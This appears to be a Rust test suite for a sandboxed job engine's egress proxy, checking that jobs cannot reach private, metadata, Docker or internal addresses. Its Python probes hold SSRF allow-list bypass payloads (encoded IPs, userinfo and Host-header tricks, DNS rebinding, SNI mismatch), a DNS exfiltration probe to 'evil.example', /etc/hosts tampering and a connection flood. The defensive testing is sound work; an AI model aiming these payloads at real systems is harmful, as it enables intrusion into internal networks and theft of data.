//! Attacks 43 and 52 to 57: what a job with network can reach beyond what it was given.

use crate::support::server::{Server, Tenant};
use crate::support::web::{Web, answers};
use crate::support::within::{BOUNDS, Names, egress, run_within};
use crate::support::{Docker, Package, Run, Upload, lateness, run, start};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::net::{TcpListener, UdpSocket};
use std::time::Duration;

/// Runs a probe in a job with network, and further arguments of `ade run`.
fn with_network(body: &str, args: &[&str]) -> Run {
    let run = run(&Package::attacking(body).asking_for_network(), &[Upload::names()], args);
    run.assert_succeeded();
    run
}

/// A probe that asks the proxy for each target, by tunnel and by URL, and says what it answers.
fn probe(targets: &[&str]) -> String {
    format!(
        r#"
        for target in {targets:?}:
            say('tunnel ' + target, verdict(ask(f'CONNECT {{target}} HTTP/1.1\r\nHost: {{target}}\r\n\r\n')))
            say('url ' + target, verdict(ask(f'GET http://{{target}}/ HTTP/1.1\r\nHost: {{target}}\r\n\r\n')))
        "#
    )
}

/// Asserts that the proxy has refused every target, each time with one of these codes, and that there was nothing else.
#[track_caller]
fn assert_refused(run: &Run, targets: &[&str], codes: &[&str]) {
    assert_eq!(run.findings().len(), 2 * targets.len(), "{:?}", run.log());
    for (name, found) in run.findings() {
        assert!(codes.contains(&found), "{name}: {found}");
    }
    assert!(run.events_named("egress.connect").is_empty());
    assert_eq!(run.events_named("egress.denied").len(), 2 * targets.len());
}

#[test]
fn a52_with_network_addresses_that_are_not_public_stay_out_of_reach() {
    let targets = [
        "169.254.169.254:80", "169.254.170.2:80", "10.0.0.1:80", "10.255.255.254:443", "172.16.0.1:80",
        "172.31.255.254:80", "192.168.0.1:80", "192.168.1.254:443", "100.64.0.1:80", "100.127.255.254:80",
        "127.0.0.1:80", "127.255.255.254:22", "0.0.0.0:80", "255.255.255.255:80", "224.0.0.251:5353", "240.0.0.1:80",
        "192.0.2.1:80", "198.18.0.1:80", "[::1]:80", "[::]:80", "[fc00::1]:80", "[fd00:ec2::254]:80", "[fe80::1]:80",
        "[fec0::1]:80", "[ff02::1]:80", "[2001:db8::1]:80", "[::ffff:127.0.0.1]:80", "[::ffff:10.0.0.1]:80",
        "[::127.0.0.1]:80", "[64:ff9b::a9fe:a9fe]:80", "[64:ff9b:1::7f00:1]:80", "[2002:7f00:1::]:80",
        "[2001:0:0:0:0:0:80ff:fffe]:80", "localhost:80",
    ];
    let run = with_network(&probe(&targets), &[]);
    assert_refused(&run, &targets, &["address_not_public"]);
}

#[test]
fn a52_with_network_there_is_still_no_way_but_the_proxy() {
    let run = with_network(
        r#"
        say('interfaces', sorted(line.split(':')[0].strip() for line in open('/proc/net/dev') if ':' in line))
        say('routes', len(open('/proc/net/route').readlines()) - 1)
        for name, target in {'public': ('1.1.1.1', 443), 'gateway': ('172.17.0.1', 80), 'metadata': ('169.254.169.254', 80)}.items():
            attempt(name, lambda: socket.create_connection(target, 2))
        attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53)))
        attempt('dns', lambda: socket.getaddrinfo('example.com', 443))
        attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
        "#,
        &[],
    );
    assert_eq!((run.finding("interfaces"), run.finding("routes")), ("['lo']", "0"));
    for name in ["public", "gateway", "metadata", "udp", "dns", "raw"] {
        assert!(matches!(run.finding(name), "ENETUNREACH" | "gaierror" | "EPERM"), "{name}: {}", run.finding(name));
    }
}

#[test]
fn a53_the_bridge_gateway_and_what_listens_on_it_stay_out_of_reach() {
    // What Docker calls its gateways, the one of its default bridge, and the address that this machine itself goes out from.
    let own = UdpSocket::bind("0.0.0.0:0").unwrap();
    let own = own.connect("8.8.8.8:53").and_then(|()| own.local_addr()).map(|address| address.ip().to_string());
    let mut addresses: BTreeSet<String> = Docker::connect().gateways().into_iter().chain(own).collect();
    addresses.insert("172.17.0.1".to_owned());
    addresses.retain(|address| !address.contains(':'));
    let targets: Vec<String> =
        addresses.iter().flat_map(|ip| [22, 53, 80, 2375, 8700].map(|port| format!("{ip}:{port}"))).collect();
    let targets: Vec<&str> = targets.iter().map(String::as_str).collect();
    let run = with_network(&probe(&targets), &[]);
    assert_refused(&run, &targets, &["address_not_public"]);
}

#[test]
fn a43_with_network_no_way_leads_to_docker() {
    let targets =
        ["127.0.0.1:2375", "127.0.0.1:2376", "172.17.0.1:2375", "172.17.0.1:2376", "[::1]:2375", "localhost:2376"];
    let run = with_network(&probe(&targets), &[]);
    assert_refused(&run, &targets, &["address_not_public"]);
    let run = with_network(
        r#"
        for path in ('/var/run/docker.sock', '/run/docker.sock'):
            say('unix ' + path, verdict(ask(f'GET unix:{path}:/info HTTP/1.1\r\n\r\n')))
            say('url ' + path, verdict(ask(f'GET http+unix://{path.replace("/", "%2F")}/info HTTP/1.1\r\n\r\n')))
            attempt('socket ' + path, lambda: socket.socket(socket.AF_UNIX).connect(path))
        "#,
        &[],
    );
    for (name, found) in run.findings() {
        assert!(matches!(found, "request_invalid" | "ENOENT"), "{name}: {found}");
    }
}

#[test]
fn a54_without_network_no_name_is_ever_looked_up() {
    let probe = "
        for name in ('c2VjcmV0.evil.example:443', 'c2VjcmV0.evil.example:53'):
            say(name, verdict(ask(f'CONNECT {name} HTTP/1.1\\r\\n\\r\\n')))
            say('url ' + name, verdict(ask(f'GET http://{name}/ HTTP/1.1\\r\\n\\r\\n')))
    ";
    let run = run(&Package::attacking(probe), &[Upload::names()], &[]);
    run.assert_succeeded();
    assert_refused(&run, &["c2VjcmV0.evil.example:443", "c2VjcmV0.evil.example:53"], &["network_denied"]);
    // With a list of hosts, no name beside it is looked up either.
    let names = Names::default().with("good.example", &["127.0.0.1"]);
    let within =
        run_within(&Package::attacking(probe), &["good.example"], egress(BOUNDS, &[]).resolving(names.resolver()));
    assert!(within.findings().values().all(|found| *found == "host_not_allowed"), "{:?}", within.findings());
    assert_eq!(within.findings().len(), 4);
    assert!(names.looks().is_empty(), "{:?}", names.looks());
}

#[test]
fn a55_no_job_reaches_another() {
    let listening = Package::attacking(
        "server = socket.create_server(('0.0.0.0', 8123))\nprint('listening', flush=True)\ntime.sleep(4)",
    );
    let peer = start(&listening.asking_for_network(), &[Upload::names()], &[]);
    let container = Docker::connect().inspect(&peer.container()).unwrap();
    let networks = container.network_settings.and_then(|settings| settings.networks).unwrap_or_default();
    let addresses: BTreeSet<String> = networks
        .values()
        .flat_map(|network| [network.ip_address.clone(), network.gateway.clone()])
        .flatten()
        .filter(|address| !address.is_empty())
        .collect();
    assert!(addresses.is_empty(), "a job has no address: {addresses:?}");
    let pid = container.state.and_then(|state| state.pid).unwrap();
    let devices = std::fs::read_to_string(format!("/proc/{pid}/net/dev"));
    assert!(devices.is_err() || devices.unwrap().lines().filter(|line| line.contains(':')).count() == 1);
    let targets = ["127.0.0.1:8123", "0.0.0.0:8123", "ade:8123", "172.17.0.2:8123", "172.17.0.3:8123"];
    let run = with_network(&probe(&targets), &[]);
    assert_refused(&run, &targets, &["address_not_public", "name_not_resolved"]);
    peer.wait().assert_succeeded();
}

#[test]
fn a56_a_list_of_hosts_is_not_evaded_by_spelling() {
    let good = Web::http("127.0.0.77");
    let evil = Web::http("127.0.0.78");
    let (port, other) = (good.address.port(), evil.address.port());
    let names = Names::default().with("good.example", &["127.0.0.77"]).with("evil.example", &["127.0.0.78"]);
    let body = format!(
        r#"
        def url(name, target, extra=''):
            say(name, verdict(ask(f'GET http://{{target}}/ HTTP/1.1\r\nHost: good.example:{port}\r\n{{extra}}\r\n')))
        url('good', 'good.example:{port}')
        url('upper', 'GOOD.Example:{port}')
        url('dot', 'good.example.:{port}')
        url('literal', '127.0.0.77:{port}')
        url('other', 'evil.example:{other}')
        url('below', 'a.good.example:{port}')
        url('above', 'example:{port}')
        url('suffix', 'good.example.evil.example:{other}')
        url('prefix', 'notgood.example:{port}')
        url('userinfo', 'good.example@evil.example:{other}')
        url('password', 'good.example:80@evil.example:{other}')
        url('encoded user', 'good.example%40evil.example:{other}')
        url('backslash', 'evil.example:{other}\\@good.example')
        url('fragment', 'evil.example:{other}#@good.example:{port}')
        url('decimal', '2130706510:{other}')
        url('hex', '0x7f00004e:{other}')
        url('hex parts', '0x7f.0.0.0x4e:{other}')
        url('octal', '0177.0.0.0116:{other}')
        url('short', '127.78:{other}')
        url('mapped', '[::ffff:127.0.0.78]:{other}')
        url('double dot', 'good.example..:{port}')
        url('null', 'good.example\0.evil.example:{other}')
        url('host field', 'good.example:{port}', 'Host: evil.example\r\n')
        for name, target in {{'tunnel userinfo': 'good.example@evil.example:{other}', 'tunnel other': 'evil.example:{other}',
                             'tunnel literal': '127.0.0.78:{other}', 'tunnel decimal': '2130706510:{other}',
                             'tunnel space': 'good.example:{port} evil.example:{other}'}}.items():
            say(name, verdict(ask(f'CONNECT {{target}} HTTP/1.1\r\nHost: good.example:{port}\r\n\r\n')))
        def edit(path):
            def action():
                with open(path, 'a') as file: file.write('127.0.0.78 good.example\n')
            return action
        attempt('hosts', edit('/etc/hosts'))
        attempt('resolver', edit('/etc/resolv.conf'))
        attempt('replace', lambda: os.replace('/job/package/manifest.json', '/etc/hosts'))
        "#
    );
    let pattern = format!("good.example:{port}");
    let allowed = egress(BOUNDS, &["127.0.0.77/32", "127.0.0.78/32"]).resolving(names.resolver());
    let within = run_within(&Package::attacking(&body), &[&pattern], allowed);
    let mut refused = 0;
    for (name, found) in within.findings() {
        match name {
            "good" | "upper" | "dot" | "host field" => assert_eq!(found, "HTTP/1.1 200 OK", "{name}"),
            "hosts" | "resolver" | "replace" => {
                assert!(matches!(found, "EROFS" | "EACCES" | "EPERM" | "EXDEV" | "EBUSY"), "{name}: {found}")
            }
            _ => {
                assert!(matches!(found, "host_not_allowed" | "request_invalid"), "{name}: {found}");
                refused += 1;
            }
        }
    }
    assert_eq!((refused, evil.connections()), (24, 0));
    for head in good.heads() {
        let hosts: Vec<&str> = head.lines().filter(|line| line.to_lowercase().starts_with("host:")).collect();
        assert_eq!(
            hosts,
            [format!("Host: good.example:{port}")],
            "the server is asked for the host of the URL and no other"
        );
    }
    assert_eq!(names.looks().iter().filter(|name| *name != "good.example").count(), 0);
}

#[test]
fn a56_a_tls_client_must_ask_for_the_host_that_was_allowed() {
    let web = Web::https("127.0.0.79", &["good.example", "evil.example"]);
    let port = web.address.port();
    let names = Names::default().with("good.example", &["127.0.0.79"]);
    let body = format!(
        r#"
        import ssl
        def handshake(name, asked):
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            end = socket.create_connection(('127.0.0.1', 3128), 5)
            end.sendall(b'CONNECT good.example:{port} HTTP/1.1\r\n\r\n')
            assert b'200' in end.recv(1000)
            try:
                with context.wrap_socket(end, server_hostname=asked) as tls:
                    tls.sendall(b'GET / HTTP/1.1\r\n\r\n')
                    say(name, tls.recv(1000).split(b'\r\n')[0].decode())
            except ssl.SSLError as error: say(name, error.reason)
            except OSError as error: say(name, type(error).__name__)
        handshake('same', 'good.example')
        handshake('upper', 'GOOD.EXAMPLE')
        handshake('other', 'evil.example')
        handshake('none', None)
        "#
    );
    let allowed = || egress(BOUNDS, &["127.0.0.79/32"]).resolving(names.resolver());
    let within = run_within(&Package::attacking(&body), &["good.example"], allowed());
    assert_eq!((within.finding("same"), within.finding("upper")), ("HTTP/1.1 200 OK", "HTTP/1.1 200 OK"));
    for name in ["other", "none"] {
        assert_eq!(within.finding(name), "TLSV1_UNRECOGNIZED_NAME", "{name}");
    }
    let denied = within.events_named("egress.denied");
    assert!(denied.len() == 2 && denied.iter().all(|detail| detail["code"] == "sni_mismatch"), "{denied:?}");
    // Where every public host is allowed there is nothing to evade.
    let within = run_within(&Package::attacking(&body), &[], allowed());
    assert_eq!(within.finding("other"), "HTTP/1.1 200 OK");
}

#[test]
fn a56_a_redirect_is_a_new_connection_and_checked_like_any_other() {
    let web = Web::http("127.0.0.80");
    let secret = Web::http("127.0.0.83");
    let body = format!(
        r#"
        import urllib.request
        for name, to in {{'private': 'http://10.0.0.1/', 'loopback': {:?}, 'metadata': 'http://169.254.169.254/latest/meta-data/', 'own': 'http://127.0.0.1:{}/'}}.items():
            try: say(name, urllib.request.urlopen({:?} + '?' + to, timeout=5).status)
            except urllib.error.HTTPError as error: say(name, error.headers['X-ADE-Code'])
            except urllib.error.URLError as error: say(name, error.reason)
        "#,
        secret.url("/"),
        secret.address.port(),
        web.url("/redirect"),
    );
    let run = with_network(&body, &["--egress-allow-cidrs", "127.0.0.80/32"]);
    for name in ["private", "loopback", "metadata"] {
        assert_eq!(run.finding(name), "address_not_public", "{name}");
    }
    assert!(run.finding("own").contains("refused"), "that loopback is the job's own: {}", run.finding("own"));
    assert_eq!((web.connections(), secret.connections()), (4, 0));
}

#[test]
fn a56_a_name_that_changes_its_address_is_dialled_where_it_was_checked() {
    let first = Web::http("127.0.0.81");
    // The secret listens on the same port of another address, which is not listed.
    let secret = TcpListener::bind(("127.0.0.82", first.address.port())).unwrap();
    secret.set_nonblocking(true).unwrap();
    let names = Names::default().with("rebinding.example", &["127.0.0.81", "127.0.0.82"]);
    let target = format!("rebinding.example:{}", first.address.port());
    let body = format!(
        r"
        for turn in ('first', 'second', 'third'):
            say(turn, verdict(ask('GET http://{target}/ HTTP/1.1\r\n\r\n')))
        "
    );
    let allowed = egress(BOUNDS, &["127.0.0.81/32"]).resolving(names.resolver());
    let within = run_within(&Package::attacking(&body), &[], allowed);
    assert_eq!(within.finding("first"), "HTTP/1.1 200 OK");
    assert_eq!((within.finding("second"), within.finding("third")), ("address_not_public", "address_not_public"));
    assert_eq!(
        names.looks().len(),
        3,
        "one look for each connection, and the dialled address is the one that was seen"
    );
    assert!(secret.accept().is_err(), "nobody came");
    assert_eq!(within.events_named("egress.connect")[0]["address"], "127.0.0.81");
}

#[test]
fn a57_the_engines_own_api_and_database_stay_out_of_reach() {
    let server = Server::start(&[]);
    let database = TcpListener::bind("127.0.0.1:0").unwrap();
    database.set_nonblocking(true).unwrap();
    let api = server.admin.address.clone();
    assert!(answers(api.parse().unwrap()));
    let (_, port) = api.rsplit_once(':').unwrap();
    let stand_in = database.local_addr().unwrap().port();
    let targets = [
        api.clone(),
        format!("localhost:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
        format!("127.1.1.1:{port}"),
        format!("127.0.0.1:{stand_in}"),
        format!("localhost:{stand_in}"),
        "127.0.0.1:5432".to_owned(),
    ];
    let targets: Vec<&str> = targets.iter().map(String::as_str).collect();
    let before = server.status();
    let run = with_network(&probe(&targets), &[]);
    assert_refused(&run, &targets, &["address_not_public"]);
    assert!(database.accept().is_err(), "nobody came");
    assert_eq!(server.status()["queued"], before["queued"]);
}

/// The events of a job, all of them.
fn events(tenant: &Tenant, job: &str) -> Vec<Value> {
    let text = tenant.viewer.get(tenant.path(&format!("/jobs/{job}/events"))).send().expect(200).text();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn connections_that_are_opened_and_reset_as_fast_as_can_be_hold_up_no_other_job_and_no_memory() {
    // As many in all as the engine ever allows: the flood is to last.
    let server = Server::start(&["--max-concurrency", "2", "--egress-connections-in-all", "50000"]);
    let tenant = server.tenant();
    tenant.admin.put(tenant.path("/network")).json(&json!({"access": "allow"})).send().expect(200);
    let flood = Package::attacking(
        r"
        import struct
        def flood():
            made, until = 0, time.monotonic() + 8
            while time.monotonic() < until:
                end = socket.socket()
                end.settimeout(5)
                # A reset, and not an orderly end.
                end.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
                try: end.connect(('127.0.0.1', 3128)); made += 1
                except OSError: pass
                end.close()
            return made
        for _ in range(4):
            if os.fork() == 0:
                say('made', flood())
                os._exit(0)
        for _ in range(4): os.wait()
        ",
    )
    .asking_for_network();
    let calm = Package::attacking("for _ in range(100):\n    say('at', repr(time.time()))\n    time.sleep(0.03)");
    let (flood, calm) = (tenant.config(&flood), tenant.config(&calm));
    // What a first job costs the process is not the flood's.
    tenant.end(&tenant.job(&calm, &tenant.names()));
    let before = server.memory_kib("VmRSS");

    let attack = tenant.job(&flood, &tenant.names());
    tenant.running(&attack);
    let mut most = 0;
    let neighbour = tenant.job(&calm, &tenant.document("other.csv", "Name\nAda\n"));
    while tenant.record(&attack)["status"] == "running" {
        most = most.max(server.memory_kib("VmRSS"));
        std::thread::sleep(Duration::from_millis(50));
    }
    let ended = tenant.end(&neighbour);
    assert_eq!(ended["status"], "succeeded", "{ended:#}");
    let late = lateness(&events(&tenant, &neighbour));
    assert_eq!(late.len(), 100);
    assert!(late[94] < 1_000.0, "the slowest events of the neighbour came after {:?} ms", &late[90..]);

    let ended = tenant.end(&attack);
    assert_eq!(ended["status"], "succeeded", "{ended:#}");
    let events = events(&tenant, &attack);
    let said = events.iter().filter_map(|event| event["detail"]["text"].as_str()?.strip_prefix("made: "));
    let made: usize = said.map(|count| count.parse::<usize>().unwrap()).sum();
    let seen = events.iter().filter(|event| event["event"] == "egress.denied").count();
    eprintln!("{made} connections made, {seen} recorded; {before} KiB before, {most} at most");
    assert!(made > 500 && seen > 500, "it was a flood: {made} connections, {seen} recorded");
    assert!(most < before + 64 * 1024, "{most} KiB, and {before} before");
    let whole = events.iter().filter(|event| event["event"] == "egress.denied");
    assert!(whole.clone().all(|event| event["detail"]["code"] == "abandoned"), "each is recorded as what it was");
    assert!(events.iter().zip(1_u64..).all(|(event, seq)| event["seq"] == seq), "no event is lost");
}
